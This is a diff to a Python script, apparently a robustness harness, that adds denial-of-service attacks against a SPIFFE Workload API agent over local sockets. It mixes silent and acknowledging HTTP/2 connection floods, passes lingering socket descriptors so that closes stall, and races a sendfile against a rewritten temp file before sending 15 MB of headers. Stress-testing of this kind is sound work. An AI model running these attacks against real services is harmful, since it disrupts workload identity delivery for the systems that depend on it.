@@ -12,7 +12,10 @@ import os
 import select
 import socket
 import struct
+import tempfile
+import threading
 import time
+from collections import deque
 from collections.abc import Callable, Iterator, Mapping, Sequence
 from contextlib import suppress
 from functools import partial
@@ -21,6 +24,7 @@ from typing import Final
 
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS = 1, 4
+ACK = 1
 LARGEST: Final = 2**31 - 1
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 FETCH, TOKEN = b"/SpiffeWorkloadAPI/FetchX509SVID", b"/SpiffeWorkloadAPI/FetchJWTSVID"
@@ -79,10 +83,19 @@ def connect(path: str) -> socket.socket:
 
 
 def speaking(path: str) -> socket.socket:
-    """A connection that speaks HTTP/2 and lets the agent send as much as it likes. Raises OSError."""
+    """A connection that speaks HTTP/2, acknowledges the agent's settings unseen, and lets the agent send as much as it
+    likes. Raises OSError."""
     found = connect(path)
     window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, LARGEST))
-    found.sendall(PREFACE + window + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST - 65_535)))
+    found.sendall(PREFACE + window + frame(SETTINGS, ACK, 0))
+    found.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST - 65_535)))
+    return found
+
+
+def silent(path: str) -> socket.socket:
+    """A connection that speaks HTTP/2 and acknowledges nothing. Raises OSError."""
+    found = connect(path)
+    found.sendall(PREFACE + frame(SETTINGS, 0, 0))
     return found
 
 
@@ -114,15 +127,15 @@ def said_and_waited(first: Callable[[], bytes]) -> Attack:
 
 
 def flood(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
-    """10,000 connections of all attackers, held; those that are closed are made again."""
+    """10,000 connections of all attackers, held, half of which acknowledge the settings; those that are closed are made
+    again."""
     held: list[socket.socket] = []
     done = 0
     for path in itertools.cycle(paths):
         if not going_on():
             break
         with suppress(OSError):
-            held.append(connect(path))
-            held[-1].sendall(PREFACE + frame(SETTINGS, 0, 0))
+            held.append(acknowledging(path) if done % 2 else silent(path))
             done += 1
         if len(held) >= CONNECTIONS // ATTACKERS:
             held = [each for each in held if _is_open(each)]
@@ -163,7 +176,9 @@ def slow(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
     return done
 
 
-def calls_of(requests: Callable[[int], bytes], at_once: int) -> Attack:
+def calls_of(
+    requests: Callable[[int], bytes], at_once: int, begin: Callable[[str], socket.socket] = speaking
+) -> Attack:
     """Connections to each path that send `requests(stream)`, `at_once` at a time, as fast as the agent reads them."""
 
     def attack(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
@@ -173,7 +188,7 @@ def calls_of(requests: Callable[[int], bytes], at_once: int) -> Attack:
             if not going_on():
                 break
             try:
-                connection, streams = held.pop(path) if path in held else (speaking(path), itertools.count(1, 2))
+                connection, streams = held.pop(path) if path in held else (begin(path), itertools.count(1, 2))
                 connection.sendall(b"".join(requests(next(streams)) for _ in range(at_once)))
                 done += at_once
                 drain(connection)
@@ -233,7 +248,7 @@ def large_headers(most: int) -> Attack:
             for place in itertools.product(paths, range(HOLDERS)):
                 try:
                     if place not in held:
-                        begin = acknowledging if place[1] % 2 else speaking
+                        begin = acknowledging if place[1] % 2 else silent
                         held[place] = begin(place[0]), 0
                         held[place][0].setblocking(False)
                         done += 1
@@ -252,6 +267,64 @@ def large_headers(most: int) -> Attack:
         return done
 
     return attack
+
+
+def descriptors(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
+    """Connections that send a descriptor along, first or later, whose last closing takes as long as a peer likes; then
+    they speak no HTTP/2, or go."""
+    listening = socket.create_server(("127.0.0.1", 0), backlog=256)
+    lingering: deque[tuple[socket.socket, socket.socket]] = deque()
+    done = 0
+    for path in itertools.cycle(paths):
+        if not going_on():
+            return done
+        sent = socket.create_connection(listening.getsockname())
+        lingering.append((sent, listening.accept()[0]))
+        sent.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
+        sent.setblocking(False)
+        with suppress(BlockingIOError):
+            while True:
+                sent.send(b"unread" * 10_000)
+        with suppress(OSError), connect(path) as each:
+            done += 1
+            if done % 2:
+                each.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0) + call(1))
+            socket.send_fds(each, [PREFACE], [sent.fileno()])
+            each.sendall(b"GET / HTTP/1.1\r\n\r\n")
+        # Aside: where it is the last one that closes it, it waits until the other end goes.
+        threading.Thread(target=sent.close, daemon=True).start()
+        if len(lingering) > HOLDERS:
+            lingering.popleft()[1].close()
+    return done
+
+
+def spliced(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
+    """Connections whose acknowledgement is a page that is written to while it waits, and then headers of 15 MB."""
+    block = memoryview(split(1, headers(FETCH, *large(LARGE))))
+    begun = PREFACE + frame(SETTINGS, 0, 0)
+    done = 0
+    with tempfile.TemporaryFile() as page:
+        page.write(begun + frame(SETTINGS, ACK, 0))
+        page.flush()
+
+        def changing() -> None:
+            while going_on():
+                for flags in (0, ACK):
+                    os.pwrite(page.fileno(), frame(SETTINGS, flags, 0), len(begun))
+
+        thread = threading.Thread(target=changing)
+        thread.start()
+        for path in itertools.cycle(paths):
+            if not going_on():
+                break
+            with suppress(OSError), connect(path) as each:
+                done += 1
+                each.settimeout(None)
+                os.sendfile(each.fileno(), page.fileno(), 0, len(begun) + 9)
+                each.settimeout(PATIENCE)
+                each.sendall(block)
+        thread.join()
+    return done
 
 
 def unread(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
@@ -394,8 +467,11 @@ KINDS: Mapping[str, Attack] = MappingProxyType(
         "begun": calls_of(_unfinished, 50),
         "tokens": calls_of(_token, 20),
         "metadata": calls_of(_much_metadata, 2),
+        "early metadata": calls_of(_much_metadata, 2, silent),
         "headers": large_headers(16_000),
         "continuations": large_headers(64),
+        "descriptors": descriptors,
+        "spliced": spliced,
         "requests": asking,
         "unread": unread,
         "forks": forks,
